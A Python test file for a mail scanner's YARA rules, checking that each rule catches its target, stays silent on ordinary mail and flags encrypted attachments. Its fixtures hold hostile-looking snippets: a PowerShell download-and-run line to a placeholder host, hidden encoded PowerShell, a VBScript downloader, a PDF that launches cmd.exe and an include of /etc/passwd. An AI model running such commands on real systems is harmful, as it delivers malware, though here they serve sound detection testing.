"""Each rule of ours fires on what it is for, and none on ordinary mail; other rules are an organisation's own."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from headerfirst.schemas.content import Part, Unpacked
from headerfirst.schemas.errors import Misconfigured
from headerfirst.schemas.inspection import Match
from headerfirst.streams.inspection.interface import Report, ScannerOptions
from headerfirst.streams.inspection.scanners.yara import Yara, opened, shipped_rules

from tests.clamd_server import eicar

OLE = bytes.fromhex("D0CF11E0A1B11AE1")
PROJECT = "_VBA_PROJECT".encode("utf-16-le")


def zipped(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "invented")
    return buffer.getvalue()


def locked_zip() -> bytes:
    """The flag alone makes it so: bit 0 of each entry's general purpose flags (APPNOTE 4.4.4)."""
    data = bytearray(zipped("salaries.txt"))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


WINDOWS_PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(20)
FIRES = {
    "test_file/eicar": eicar(),
    "programs/windows_program": WINDOWS_PROGRAM,
    "programs/linux_program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "programs/mac_program": bytes.fromhex("CFFAEDFE07000001") + bytes(60),
    "programs/java_class": bytes.fromhex("CAFEBABE00000041") + bytes(60),
    "programs/windows_installer": OLE + bytes(500) + bytes.fromhex("84100C0000000000C000000000000046"),
    "programs/android_package": zipped("AndroidManifest.xml", "classes.dex"),
    "shortcuts/windows_shortcut": bytes.fromhex("4C0000000114020000000000C000000000000046") + bytes(60),
    "shortcuts/internet_shortcut_to_a_program": b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/invoice.exe\r\n",
    "shortcuts/help_file": bytes.fromhex("4954534603000000") + bytes(60),
    "shortcuts/disc_image": bytes(0x8000) + b"\x01CD001\x01\x00" + bytes(60),
    "shortcuts/notebook_with_an_embedded_file": bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")
    + bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")
    + b"cmd /c PowerShell",
    "office_macros/macro_that_runs_by_itself": OLE + bytes(500) + PROJECT + b"\0Sub AutoOpen()",
    "office_macros/macro_that_starts_a_program": OLE + bytes(500) + PROJECT + b'\0CreateObject("WScript.Shell")',
    "office_macros/rich_text_with_an_equation_object": b"{\\rtf1{\\object\\objdata 4571756174696F6E2E33}}",
    "office_macros/document_that_fetches_its_template": (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Type='
        b'"x/attachedTemplate" Target="http://192.0.2.7/t.dotm" TargetMode="External"/></Relationships>'
    ),
    "scripts/html_application": b"<html><HTA:APPLICATION id=x><script>go()</script>",
    "scripts/script_host_script": b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");',
    "scripts/script_that_downloads_and_saves": (
        b'Set h = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "a"'
    ),
    "scripts/encoded_powershell": b"powershell.exe -nop -w hidden -enc " + b"SQBuAHYAZQBuAHQAZQBkAA" * 3,
    "scripts/powershell_that_downloads_and_runs": b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/')",
    "scripts/page_that_builds_a_file": (
        b"b = new Blob([atob(x)]); a.href = URL.createObjectURL(b); a.download = 'invoice.zip'; a.click()"
    ),
    "scripts/document_that_runs_a_command": b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /Launch /F (cmd.exe)>>",
}
CLOSES = {
    "zip": locked_zip(),
    "office": OLE + bytes(500) + "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le"),
    "pdf": b"%PDF-1.7\ntrailer <</Encrypt 12 0 R /Root 1 0 R>>",
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30) + bytes.fromhex("2406F10701"),
}
SILENT = {
    "mail": b"Dear all,\n\nplease do not open attachments that begin with MZ, and no .exe, .lnk or .hta.\n",
    "page": b"<html><script>document.title = 'Minutes'</script><body>Minutes of the meeting</body></html>",
    "about the test file": b"The test file holds the words EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE! and more.",
    "test file later on": b"see: " + eicar(),
    "document": zipped("word/document.xml", "[Content_Types].xml"),
    "document with a picture": OLE + bytes(1_000) + "WordDocument".encode("utf-16-le"),
    "macro one starts by hand": OLE + bytes(500) + PROJECT + b"\0Sub SortTheTable()",
    "auto open, no project": OLE + bytes(500) + b"AutoOpen",
    "question about scripts": b'Why does new ActiveXObject("WScript.Shell") fail here?\n',
    "question about powershell": b"How do I use Net.WebClient and DownloadString in a test?\n",
    "link": b"[InternetShortcut]\r\nURL=https://www.example.org/minutes\r\n",
    "linked document": (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Type='
        b'"x/hyperlink" Target="http://www.example.org/" TargetMode="External"/></Relationships>'
    ),
    "pdf": b"%PDF-1.7\n<</OpenAction 2 0 R>> trailer <</Root 1 0 R>>",
    "short": b"MZ",
    "empty": b"",
}


def message(*parts: bytes) -> Unpacked:
    return Unpacked(tuple(Part(number, "application/octet-stream", data) for number, data in enumerate(parts)), ())


@pytest.fixture(scope="module")
def yara() -> Yara:
    return opened(ScannerOptions())


def test_every_rule_that_is_shipped_has_its_example() -> None:
    """Rules that close a part have theirs among CLOSES; a private rule is another's condition."""
    named = {
        f"{file}/{name}"
        for file, text in shipped_rules()
        for name in re.findall(r"^rule (\w+)$", text, flags=re.MULTILINE)
    }
    assert named == set(FIRES)
    closing = [re.findall(r"^rule \w+ : encrypted$", text, flags=re.MULTILINE) for _, text in shipped_rules()]
    assert sum(len(rules) for rules in closing) == len(CLOSES)


@pytest.mark.parametrize("name", FIRES)
def test_a_rule_fires_on_what_it_is_for_and_no_other_does(yara: Yara, name: str) -> None:
    report = yara.scan(message(FIRES[name]))
    assert (report.rule_ids, report.count, report.closed) == ((name,), 1, ())


@pytest.mark.parametrize("name", SILENT)
def test_no_rule_fires_on_ordinary_mail(yara: Yara, name: str) -> None:
    assert yara.scan(message(SILENT[name])) == Report((), 0, ())


@pytest.mark.parametrize("name", CLOSES)
def test_what_is_under_a_password_is_closed_and_no_hit(yara: Yara, name: str) -> None:
    assert yara.scan(message(b"Dear all", CLOSES[name])) == Report((), 0, (), ((1, "encrypted"),))


def test_a_match_says_kind_and_place_and_nothing_of_the_text(yara: Yara) -> None:
    page = b"<html>\n" * 10 + FIRES["scripts/html_application"]
    assert yara.scan(message(b"hello", page)).matches == (
        Match(rule_id="scripts/html_application", mask="script", offset=76),
    )


def test_each_part_that_is_a_hit_counts(yara: Yara) -> None:
    report = yara.scan(message(WINDOWS_PROGRAM, b"hello", WINDOWS_PROGRAM, eicar()))
    assert (report.rule_ids, report.count) == (("programs/windows_program", "test_file/eicar"), 3)


def test_a_part_that_takes_too_long_is_closed_and_the_next_is_scanned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    slow = "rule slow { condition: for all i in (1..filesize * 1000000) : (uint8(i % filesize) >= 0 and i > 0) }"
    (tmp_path / "slow.yar").write_text(slow)
    monkeypatch.setattr("headerfirst.streams.inspection.scanners.yara.SECONDS", 1)
    impatient = opened(ScannerOptions(yara_folders=(str(tmp_path),)))
    report = impatient.scan(message(b"x" * 100_000, b""))
    assert report == Report((), 0, (), ((0, "time_out"),))


def test_an_organisations_own_rules_stand_beside_ours(tmp_path: Path) -> None:
    (tmp_path / "local.yar").write_text('rule project_name { strings: $a = "Invented Falcon" condition: $a }')
    own = opened(ScannerOptions(yara_folders=(str(tmp_path),)))
    report = own.scan(message(b"on Invented Falcon", eicar()))
    assert report.rule_ids == ("local/project_name", "test_file/eicar")
    assert report.matches[0] == Match(rule_id="local/project_name", mask="pattern", offset=3)


def test_a_version_changes_with_the_rules(tmp_path: Path, yara: Yara) -> None:
    (tmp_path / "local.yar").write_text("rule never { condition: false }")
    versions = {opened(ScannerOptions(yara_folders=(str(tmp_path),))).version, yara.version}
    versions.add(opened(ScannerOptions()).version)
    assert len(versions) == 2


@pytest.mark.parametrize(
    ("files", "sentence"),
    [
        ({"broken.yar": "rule x {\n  condition: maybe\n}"}, r"broken\.yar do not compile: .* \(broken:2:"),
        ({"including.yar": 'include "/etc/passwd"'}, r"including\.yar do not compile"),
        ({"scripts.yar": "rule x { condition: false }"}, r"Two files of YARA rules are named scripts\.yar"),
        ({"rules.txt": ""}, r"no \.yar file"),
        ({"latin.yar": 'rule x { meta: a = "\xe9" condition: false }'}, "cannot be read"),
    ],
)
def test_rules_that_cannot_be_used_are_refused_in_plain_words(
    tmp_path: Path, files: dict[str, str], sentence: str
) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="latin-1")
    with pytest.raises(Misconfigured, match=sentence):
        opened(ScannerOptions(yara_folders=(str(tmp_path),)))


def test_a_folder_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Misconfigured, match="cannot be read"):
        opened(ScannerOptions(yara_folders=(str(tmp_path / "nowhere"),)))
